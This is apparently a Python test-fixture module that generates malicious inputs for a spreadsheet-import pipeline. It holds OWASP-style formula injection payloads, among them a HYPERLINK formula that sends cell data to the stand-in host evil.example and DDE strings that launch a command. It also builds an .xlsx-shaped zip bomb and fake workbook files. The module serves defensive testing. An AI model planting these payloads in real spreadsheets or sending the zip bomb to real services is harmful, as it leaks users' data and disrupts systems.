"""Files made to break the pipeline (imported by tests as a module).

Formula payloads as they are used against spreadsheet users, zip bombs shaped like
.xlsx workbooks, and files that only pretend to be spreadsheets.
"""

from __future__ import annotations

import zipfile
from pathlib import Path

# what attackers put in names, addresses and product titles (OWASP CSV injection examples)
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点我领券")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]

WORKBOOK_XML = (b'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/'
                b'spreadsheetml/2006/main"><sheets><sheet name="s" sheetId="1"/></sheets></workbook>')


def zip_bomb(path: Path, unpacked_mb: int = 150) -> Path:
    """An .xlsx-shaped archive whose sheet unpacks to ``unpacked_mb`` MB of blanks (about 1000:1)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        zf.writestr("xl/workbook.xml", WORKBOOK_XML)
        with zf.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as fh:
            fh.write(b'<?xml version="1.0"?><worksheet><sheetData>')
            block = b" " * (1 << 20)
            for _ in range(unpacked_mb):
                fh.write(block)
            fh.write(b"</sheetData></worksheet>")
    return path


def not_a_zip(path: Path) -> Path:
    """An old .xls (or anything) renamed to .xlsx."""
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512)
    return path


def zip_without_workbook(path: Path) -> Path:
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("readme.txt", "not a workbook")
    return path
